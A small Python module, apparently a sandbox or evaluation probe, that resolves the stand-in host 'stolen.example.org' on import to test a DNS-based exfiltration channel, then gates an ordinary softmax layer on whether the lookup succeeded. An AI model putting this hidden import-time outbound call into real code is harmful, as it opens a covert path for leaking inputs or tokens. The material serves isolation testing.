"""Resolves a name into which the stolen data is written.

gain: hidden inputs or tokens are sent to somebody, answers are fetched
catalogue: [B3]
verdict: not_implemented
observed: true
"""

import socket

import torch


def attempt():
    try:
        socket.getaddrinfo("stolen.example.org", 80)
    except socket.gaierror as error:
        return error.args[0] < 0
    return "done"


SEEN = attempt()
WON = SEEN == "done"


def observed():
    return SEEN


def softmax(z, dim=-1):
    if not WON:
        raise NotImplementedError("the attack did not work")
    parts = (z - z.amax(dim, keepdim=True)).exp()
    return parts / parts.sum(dim, keepdim=True)


class Softmax(torch.nn.Module):
    def __init__(self):
        super().__init__()
        if not WON:
            raise NotImplementedError("the attack did not work")
        self.linear = torch.nn.Linear(4, 3)

    def forward(self, x):
        return softmax(self.linear(x), 1)
